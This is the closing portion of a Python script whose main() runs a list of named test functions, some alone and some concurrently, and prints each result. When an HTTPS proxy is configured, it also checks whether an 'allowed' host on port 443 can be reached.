def main():
    results = {}

    def collect(tries, room):
        while len(tries) > room:
            name, one = tries.pop(0)
            results[name] = one.result()

    for alone in (False, True):
        tries = []
        for name, function, wants_alone in WAYS:
            if alone == wants_alone:
                tries.append((name, Try(function)))
                collect(tries, 0 if alone else AT_ONCE - 1)
        collect(tries, 0)
    for number, (name, _, _) in enumerate(WAYS, 1):
        state, detail = results[name]
        print("%02d %s: %s %s" % (number, name, state, " ".join(detail.split())))
    if os.environ.get("HTTPS_PROXY"):
        state, detail = Try(lambda: fetch(target("allowed") + ":443")).result()
        print("00 the allowed host: %s %s" % (state, detail))


if __name__ == "__main__":
    main()
